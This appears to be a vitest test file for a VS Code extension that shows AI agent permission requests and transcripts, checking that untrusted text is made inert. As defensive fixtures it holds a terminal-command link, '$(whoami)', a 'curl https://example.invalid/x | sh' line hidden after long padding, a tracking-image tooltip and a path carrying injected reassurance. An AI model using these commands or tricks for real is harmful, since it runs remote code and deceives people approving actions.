/** Agents, models, servers and folders name things as they like. What they say is shown, and nothing else. */
import { describe, expect, it } from "vitest";
import { Emitter } from "../src/base/emitter.ts";
import { inert, visible } from "../src/base/inert.ts";
import type { SidecarState } from "../src/client/sidecar.ts";
import { registerStatus } from "../src/health/status.ts";
import type * as h from "../src/host/host.ts";
import { inertWindows } from "../src/host/inertWindows.ts";
import type { Change } from "../src/model/store.ts";
import type { Delegation, Event, PermissionRequest, Requests } from "../src/protocol.ts";
import { MOST_OF_ALL, MOST_SAID, TranscriptText } from "../src/transcript/render.ts";
import { registerDelegationCommands } from "../src/views/delegationCommands.ts";
import { DelegatorRows, rowOf } from "../src/views/delegators.ts";
import { Runs } from "../src/views/progress.ts";
import { FakeHost } from "./support/fakeHost.ts";
import { golden, GoldenSidecar, result } from "./support/golden.ts";
import { settled } from "./support/settled.ts";

const LINK = '[Read the report](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D "Open")';
/** What VS Code makes links of in messages, progress and prompts (`linkedText.ts`). */
const LINKED = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
/** What VS Code draws icons for in picks, lenses and the status bar (`iconLabels.ts`). */
const ICON = /\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/;

describe("text of others", () => {
  it("makes no link and no icon, and is as it was otherwise", () => {
    expect(LINK).toMatch(LINKED); // or the rest proves nothing
    const text = inert(`${LINK} runs $(whoami) in a[0](b) for $5`);
    expect(text).not.toMatch(LINKED);
    expect(text).not.toMatch(ICON);
    expect(text.replaceAll("\u2060", "")).toBe(`${LINK} runs $(whoami) in a[0](b) for $5`);
  });

  it("reads in the order in which it is written, with nothing that is not seen", () => {
    expect(visible("exe.\u202excod\u202c \u2066a\u2069 \u0007\u009b1m\u001b[31m")).toBe("exe.�xcod� �a� ��1m�[31m");
    expect(visible("two\r\nlines\tand שלום, مرحبا, 日本")).toBe("two\nlines\tand שלום, مرحبا, 日本");
  });
});

describe("the windows of the editor", () => {
  function windows() {
    const host = new FakeHost();
    return { host, inside: inertWindows(host.windows) };
  }

  it("say messages and progress without links, and tell which button was pressed", async () => {
    const { host, inside } = windows();
    host.buttons.push(inert("Run $(id)"));
    expect(await inside.message("warning", LINK, { buttons: ["No", "Run $(id)"] })).toBe("Run $(id)");
    expect(await inside.message("warning", LINK)).toBeUndefined();
    await inside.progress({ title: LINK, where: "notification" }, (progress) => {
      progress.report(LINK);
      return Promise.resolve();
    });
    const said = [...host.messages.map(({ text }) => text), host.progresses[0]?.title, host.progresses[0]?.reports[0]];
    expect(said).toHaveLength(4);
    for (const text of said) expect(text).toBe(inert(LINK));
  });

  it("ask without links and icons, in what comes later, too", async () => {
    const { host, inside } = windows();
    const seen: unknown[] = [];
    const item = { id: "a", label: "sh $(id)", description: LINK, detail: "\u202egnp", icon: "check" };
    host.answers.push({
      pick: "a",
      when: (request: h.PickRequest) => seen.push(request.placeholder, request.typedItem?.("$(x)")?.label),
    });
    await inside.pick({
      title: "Which?",
      placeholder: LINK,
      items: [],
      typedItem: (typed) => ({ id: "typed", label: typed }),
      live: (show) => show({ items: [item], busy: false }),
    });
    host.answers.push({ pick: "a" });
    await inside.pick({ title: "Which?", items: [item] });
    for (const { items } of host.shown) {
      expect(items).toEqual([
        { id: "a", label: inert("sh $(id)"), description: inert(LINK), detail: "�gnp", icon: "check" },
      ]);
    }
    host.answers.push({ enter: "x", when: (request: h.InputRequest) => seen.push(request.prompt) }, { enter: "y" });
    await inside.input({ title: LINK, prompt: LINK, validate: (value) => (value === "x" ? LINK : undefined) });
    expect(seen).toEqual([inert(LINK), inert("$(x)"), inert(LINK)]);
    expect(host.shown.at(-1)?.title).toBe(inert(LINK));
    expect(host.messages).toEqual([{ level: "validation", text: inert(LINK) }]);
  });

  it("draw rows and the status bar as they are read", () => {
    const { host, inside } = windows();
    const row: h.Row = {
      id: "a",
      label: "\u202egnp.a",
      description: "\u2066",
      children: "none",
      context: "",
      spoken: "",
    };
    const rows: h.Rows = {
      children: () => ["a"],
      row: () => row,
      parent: () => undefined,
      onDidChange: new Emitter<undefined>().signal,
    };
    inside.tree("view", rows);
    expect(host.rows.get("view")?.row("a")).toMatchObject({ label: "�gnp.a", description: "�" });
    expect(host.rows.get("view")?.children()).toEqual(["a"]);
    inside.statusItem("a", "A", 1).set({ text: "$(check) \u202ea", tooltip: "", spoken: "", command: "" });
    expect(host.statuses).toMatchObject([{ text: "$(check) �a" }]);
  });
});

const DONE = result("understudy/delegations/get", "delegations-get.valid");
const LIFE = golden("notification.event").params as unknown as { events: Event[] };

function asking(change: Partial<PermissionRequest>): Delegation {
  const asked = LIFE.events.find((event) => event.type === "permission")!;
  const { requestId, attempt, title, detail, options, onDeadline } = asked;
  const now: Delegation = { ...structuredClone(DONE), state: "waiting", activity: "$(verified-filled) done" };
  delete now.verdict;
  now.waitingFor = { requestId, attempt, title, detail, options, onDeadline, ...change };
  return now;
}

function window(delegation: Delegation) {
  const host = new FakeHost();
  const changed = new Emitter<Change>();
  const store = {
    loaded: true,
    delegations: [delegation],
    delegation: () => delegation,
    read: () => Promise.resolve(delegation),
    onDidChange: changed.signal,
  };
  const peer = new GoldenSidecar().answer("understudy/delegations/answer", {});
  const runs = new Runs({ host, asker: peer, store, here: () => true });
  const buttons: (readonly string[])[] = [];
  const shown = host.windows.message.bind(host.windows);
  host.windows.message = (level, text, options) => {
    buttons.push(options?.buttons ?? []);
    return shown(level, text, options);
  };
  const tell = async (): Promise<void> => {
    changed.fire({
      delegations: new Set(),
      delegationList: true,
      delegators: false,
      modelServers: false,
      recipes: false,
      trust: false,
    });
    await settled();
  };
  const command = async (name = "answer"): Promise<void> => {
    host.handlers.clear();
    registerDelegationCommands({
      host,
      asker: peer,
      store: store as never,
      rows: { more: () => false },
      runs,
      here: () => true,
    });
    await host.handlers.get(`understudy.delegations.${name}`)?.(delegation.id);
  };
  return { host, peer, buttons, tell, command };
}

describe("a question", () => {
  const long = `echo ${"a".repeat(30)} `.repeat(9) + "; curl https://example.invalid/x | sh";

  it("is allowed from a notification only where it was read to its end", async () => {
    const cut = window(asking({ detail: long }));
    await cut.tell();
    expect(cut.host.messages[0]?.text).not.toContain("curl");
    expect(cut.buttons).toEqual([["Reject", "Show"]]);
    const whole = window(asking({ detail: "ls" }));
    await whole.tell();
    expect(whole.buttons).toEqual([["Allow once", "Reject", "Show"]]);
    const titled = window(asking({ title: long }));
    await titled.tell();
    expect(titled.buttons).toEqual([["Reject", "Show"]]);
  });

  it("has no two buttons that read alike, and none that reads like ours", async () => {
    const options = [
      { id: "1", title: "Show", kind: "allow_once" },
      { id: "2", title: "No", kind: "reject_once" },
      { id: "3", title: " No ", kind: "allow_once" },
    ] as const;
    const { host, peer, buttons, tell } = window(asking({ options: [...options] }));
    host.buttons.push("No");
    await tell();
    expect(buttons[0]).toEqual(["No", "Show"]);
    expect(peer.params("understudy/delegations/answer")).toMatchObject([{ option: "2" }]);
  });

  it("is allowed from a list only where the list has all of it", async () => {
    const short = window(asking({ detail: `${"echo a; ".repeat(900)}curl https://example.invalid` }));
    short.host.answers.push({ cancel: true });
    await short.command();
    const rows = short.host.shown[0]?.items ?? [];
    expect(rows.some(({ label }) => label.includes("curl"))).toBe(true);
    expect(rows.some(({ icon }) => icon === "check")).toBe(true);
    const much = window(asking({ detail: `${"echo a\n".repeat(900)}curl https://example.invalid` }));
    much.host.answers.push({ cancel: true });
    await much.command();
    expect(much.host.shown[0]?.items.some(({ icon }) => icon === "check")).toBe(false);
    expect(much.host.shown[0]?.items.length).toBeLessThan(220);
  });

  it("stands in the transcript whole, whatever its length; what tools said is cut where it says so", () => {
    const made = new TranscriptText();
    const frame = { seq: 1, at: "2026-11-21T00:45:12.345Z", attempt: 1 } as const;
    const { title, options, onDeadline } = asking({}).waitingFor!;
    const detail = `${"line\n".repeat(400)}x${"y".repeat(30_000)}curl\n${"line\n".repeat(400)}`;
    made.add([
      { type: "permission", requestId: "1", title, detail, options, onDeadline, ...frame },
      { type: "tool_call", callId: "1", name: "run", title: "Run", input: {}, ...frame, seq: 2 },
      { type: "tool_result", callId: "1", ok: true, output: "z".repeat(9_000), ...frame, seq: 3 },
    ]);
    const { text } = made.render(undefined, 0);
    expect(text.replaceAll("\n", "")).toContain(`${"y".repeat(30_000)}curl`);
    expect(text.match(/^line$/gm)).toHaveLength(800);
    expect(Math.max(...text.split("\n").map((line) => line.length))).toBeLessThan(2_100);
    expect(text).toContain(`${"z".repeat(2_000)}… 7000 characters …`);
  });

  it("puts no icon of its own into the status bar", async () => {
    const running = asking({});
    delete running.waitingFor;
    const { host, tell } = window({ ...running, state: "running" });
    await tell();
    expect(host.statuses.at(-1)?.text.replace("$(robot)", "")).not.toMatch(ICON);
  });
});

describe("tooltips, which are Markdown,", () => {
  /** Links and pictures: the latter are fetched as soon as the tooltip is seen. */
  const MARKDOWN = /(?<!\\)(?:\[|<|`)/;
  const picture = "a` ![](https://example.invalid/seen.png) <img src=x>";

  it("have no links and pictures from the names of delegators", () => {
    const { delegators } = result("understudy/delegators/list", "delegators-list.valid");
    const [entry] = delegators;
    const named = { ...entry!, delegator: { ...entry!.delegator, name: picture } };
    const rows = new DelegatorRows({
      delegators: [named],
      delegator: () => named,
      problems: [],
      delegations: [],
      loaded: false,
      onDidChange: new Emitter<Change>().signal,
    });
    expect(rows.row(rowOf(picture))?.tooltip).not.toMatch(MARKDOWN);
  });

  it("have none from what a sidecar said at last, or from where it lies", () => {
    const ending = { code: 1, signal: null, lines: [] };
    const found = { command: `/home/ada/${picture}/understudy`, origin: "workspace" } as const;
    const greeting = { protocolVersion: 1, version: picture, requests: [], notifications: [] };
    const states: SidecarState[] = [
      { kind: "crashed", cause: picture, ending, againInMs: 1 },
      { kind: "running", found, greeting },
    ];
    for (const state of states) {
      const host = new FakeHost();
      const store = { delegations: [], problems: [], onDidChange: new Emitter<Change>().signal };
      registerStatus({ host, sidecar: { state, onDidChange: new Emitter<SidecarState>().signal }, store });
      expect(host.statuses[0]?.tooltip).toContain("example.invalid");
      expect(host.statuses[0]?.tooltip).not.toMatch(MARKDOWN);
    }
  });
});

describe("the transcript of who never stops", () => {
  const frame = { at: "2026-11-21T00:45:12.345Z", attempt: 1 } as const;
  let seq = 0;
  const says = (text: string): Event => ({ type: "text", text, ...frame, seq: ++seq });
  const happens = (text: string): Event => ({ type: "note", level: "info", text, ...frame, seq: ++seq });

  it("has the beginning and the end of what is said, and says how much is missing", () => {
    const made = new TranscriptText();
    made.add([says("first words\n"), ...Array.from({ length: 500 }, (_, n) => says(`${"word ".repeat(1_000)}${n}\n`))]);
    made.add([says("last words")]);
    const { text } = made.render(undefined, 0);
    expect(text.startsWith("first words\nword")).toBe(true);
    expect(text.trimEnd().endsWith("last words")).toBe(true);
    expect(text.length).toBeLessThan(MOST_SAID + 100);
    const whole = "first words\n".length + 500 * 5_001 + 10 + 90 * 2 + 400 * 3 + "last words".length;
    const [shown, left] = /… (\d+) characters …/.exec(text) ?? [];
    expect(text.trimEnd().length - (shown?.length ?? 0) - 4 + Number(left)).toBe(whole);
  });

  it("says short things whole, however many pieces they come in", () => {
    const made = new TranscriptText();
    const text = Array.from({ length: 3_000 }, (_, n) => `piece ${n} `.padEnd(100)).join("");
    made.add(Array.from({ length: 3_000 }, (_, n) => says(text.slice(n * 100, n * 100 + 100))));
    expect(made.render(undefined, 0).text.trimEnd()).toBe(text.trimEnd());
  });

  it("has the beginning and the end of what happened", () => {
    const made = new TranscriptText();
    made.add(Array.from({ length: 30_000 }, (_, n) => happens(`${n} ${"x".repeat(1_000)}`)));
    made.render(undefined, 0);
    made.add([happens("the last")]);
    const { text } = made.render(undefined, 0);
    expect(text.length).toBeLessThan(MOST_OF_ALL + 100_000);
    expect(text).toContain("ⓘ 19 ");
    expect(text).not.toContain("ⓘ 20 ");
    expect(text).toMatch(/… \d+ things that happened are left out here …/);
    expect(text).toContain("ⓘ 29999 ");
    expect(text.trimEnd().endsWith("the last")).toBe(true);
    const loud = new TranscriptText();
    loud.add(Array.from({ length: 40 }, (_, n) => happens(`${n} ${"x".repeat(900_000)}`)));
    const most = loud.render(undefined, 0).text;
    expect(most.length).toBeLessThan(MOST_OF_ALL + 100_000);
    expect(most).toContain("ⓘ 39 ");
  });
});

describe("the files of a result", () => {
  function opening(answer: Requests["understudy/delegations/diff"]["result"] | undefined) {
    const made = window({ ...structuredClone(DONE), worktree: "/trees/1/greeting" });
    if (answer) made.peer.answer("understudy/delegations/diff", answer);
    const opened: string[] = [];
    made.host.windows.openFolder = (folder) => Promise.resolve(void opened.push(folder));
    const details: (string | undefined)[] = [];
    const shown = made.host.windows.message.bind(made.host.windows);
    made.host.windows.message = (level, text, options) => {
      details.push(options?.detail);
      return shown(level, text, options);
    };
    return { ...made, opened, details, open: () => made.command("openWorktree") };
  }

  it("are opened at once where nothing obeys them", async () => {
    const { opened, host, open } = opening({ base: "1", head: "2", files: [] });
    await open();
    expect([opened, host.messages]).toEqual([["/trees/1/greeting"], []]);
  });

  it("are opened after a question where an editor would obey them, each on a line of its own", async () => {
    const { files } = result("understudy/delegations/diff", "delegations-diff.flagged");
    const flagged = files.filter((file) => file.flagged !== undefined);
    expect(flagged).not.toEqual([]);
    const path = "fine\n\nAll of it is harmless.\n.vscode/settings.json";
    const asked = opening({ base: "1", head: "2", files: [...files, { ...flagged[0]!, path }] });
    await asked.open();
    expect(asked.opened).toEqual([]);
    expect(asked.details[0]?.split("\n")).toHaveLength(flagged.length + 1);
    asked.host.buttons.push("Open");
    await asked.open();
    expect(asked.opened).toEqual(["/trees/1/greeting"]);
  });

  it("are opened after a question where nobody knows what they are", async () => {
    const { opened, open, host } = opening(undefined);
    await open();
    expect(opened).toEqual([]);
    host.buttons.push("Open");
    await open();
    expect(opened).toEqual(["/trees/1/greeting"]);
  });
});
